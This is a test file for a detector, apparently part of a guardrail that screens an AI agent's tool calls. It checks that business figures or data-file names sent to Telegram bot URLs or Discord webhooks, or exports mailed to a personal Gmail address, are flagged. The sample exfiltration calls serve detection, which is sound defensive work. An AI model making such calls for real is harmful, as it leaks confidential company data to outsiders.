import { describe, expect, it } from "vitest";
import { callFindings, sitesOf } from "../support/sites.js";
import { runTestFiles } from "../../src/cli/test-rules.js";
import { figureReport, namedDataFile, outsideFigures } from "../../src/guardian/detectors/exfil-figures.js";
import { cpuMs } from "../support/cpu.js";

/* Issue 24, twenty-seventh round ("exf27"): figures and data files sent to a messenger bot. docs/detection.md, "exf27". */

const TG = "https://api.telegram.org/bot6093817245:AAEw7Rk2Mn9Lp4Qx8Tz1Vb5Hc3Jd6Gf0Sa2/sendMessage";
const DC = "https://discord.com/api/webhooks/1245567890123456789/Zp8Lm3Kq7Rt2Vw9Xy4Ab6Cd1Ef5Gh0Ij3Kl8Mn";

describe("exf27: a report of figures", () => {
  it("finds four quantities, two of them measures, in any language or script", () => {
    expect(figureReport("Vintage 2026: Riesling 41.2 t, Pinot 18.7 t, yield 6.3 t/ha, bulk offer €2.85/l")).toBe(true);
    expect(figureReport("Werk 2: Ausstoß 18.240 Stück, Ausschuss 3,7 %, Energie 412 MWh, Stückkosten 4,18 €")).toBe(true);
    expect(figureReport("Magazyn: stal 182,5 t, aluminium 64,2 t, miedź 12,8 t, wartość 1284000 zł")).toBe(true);
    expect(figureReport("ロット 純度 99.2% 収率 84.6% 残留溶媒 120 ppm 出荷 450 kg")).toBe(true);
  });
  it("leaves notices with three figures or fewer, counts without measures, times, dates, versions and ids alone", () => {
    expect(figureReport("Occupancy tonight 87%, ADR €164, 3 walk-ins")).toBe(false);
    expect(figureReport("Nightly: 14 jobs ok, 3 retried, 2 skipped, 1 failed (see #8812)")).toBe(false);
    expect(figureReport("Release 4.12.1 deployed at 09:30 on 2027-03-14, build v2.3, 0 errors")).toBe(false);
    expect(figureReport("Last hour: code 500 x14, code 502 x3, code 504 x1, code 503 x9")).toBe(false);
    expect(figureReport("Released: B27-03-0411, B27-03-0412, B27-03-0413, B27-03-0414")).toBe(false);
    expect(figureReport("Backup finished: 3 databases, 12.4 GB in 14 min")).toBe(false);
  });
  it("names a data file, not a template or an image", () => {
    expect(namedDataFile("here you go: clients_full_export.xlsx")).toBe("clients_full_export.xlsx");
    expect(namedDataFile("Updated the import template: customers_template.csv is in the wiki")).toBeNull();
    expect(namedDataFile("new banner: launch.png")).toBeNull();
  });
});

describe("exf27: where the figures go", () => {
  const report = "Line B: 182,5 t steel, 64,2 t aluminium, scrap 3,7 %, cost 4,18 €/kg";
  it("finds a report sent to a Telegram bot or a Discord webhook, in a body, a query or a messaging tool's text", () => {
    const body = outsideFigures(sitesOf({ url: TG, body: JSON.stringify({ chat_id: "-100123", text: report }) }));
    expect(body.map((d) => d.type)).toEqual(["exfiltration.outside_figures"]);
    expect(body[0]?.path).toEqual(["params", "arguments", "url"]);
    expect(outsideFigures(sitesOf({ url: `${TG}?chat_id=-100123&text=${encodeURIComponent(report)}` })).length).toBe(1);
    expect(outsideFigures(sitesOf({ webhook: DC, text: report })).length).toBe(1);
    expect(outsideFigures(sitesOf({ url: DC, body: JSON.stringify({ content: "customers_export_2027-03.csv" }) }))[0]?.detail).toBe("a data file sent to a messenger bot or webhook the call names");
  });
  it("passes the same report to a team chat or another host, and a notice to a messenger", () => {
    expect(outsideFigures(sitesOf({ url: "https://hooks.slack.com/services/T01ABC/B02DEF/xyzXYZ123", body: JSON.stringify({ text: report }) }))).toEqual([]);
    expect(outsideFigures(sitesOf({ url: "https://erp.example.com/api/reports", body: report }))).toEqual([]);
    expect(outsideFigures(sitesOf({ url: TG, body: JSON.stringify({ chat_id: "-100123", text: "Theme v2.3 deployed" }) }))).toEqual([]);
  });
  it("is wired into the exfiltration detector", () => {
    expect(callFindings("http_post", { url: DC, body: JSON.stringify({ content: report }) })).toContain("a report of figures sent to a messenger bot or webhook the call names");
  });
  it("reads an attachment_path to a personal mailbox as an attachment", () => {
    const args = { to: "r.holm.home@gmail.com", subject: "x", body: "copy", attachment_path: "S:/Finance/2027/cost_model_master.xlsx" };
    expect(callFindings("send_email", args)).toContain("an export file attached or shared to a personal mailbox");
    expect(callFindings("send_email", { ...args, to: "finance@holm-vineyards.example" })).not.toContain("an export file attached or shared to a personal mailbox");
  });
  it("stays linear on long adversarial input", () => {
    const long = "1".repeat(30000) + " " + "1.1 ".repeat(20000) + "$1,".repeat(20000) + "a.csv".repeat(20000) + " x".repeat(20000);
    const t = cpuMs();
    figureReport(long);
    namedDataFile(long);
    namedDataFile("a".repeat(60000) + ".csv");
    outsideFigures(sitesOf({ url: TG, body: long, text: "9,".repeat(40000) }));
    expect(cpuMs() - t).toBeLessThan(1000);
  });
});

describe("exf27: corpus", () => {
  it("holds every case of exf27.test.yaml", () => {
    const s = runTestFiles("test/fixtures/corpus/exf27.test.yaml");
    const failures = s.files.flatMap((f) => f.results.filter((r) => !r.ok).map((r) => `${r.name}: ${r.failures.join("; ")}`));
    expect(failures).toEqual([]);
    expect(s.passed).toBeGreaterThanOrEqual(17);
  });
});
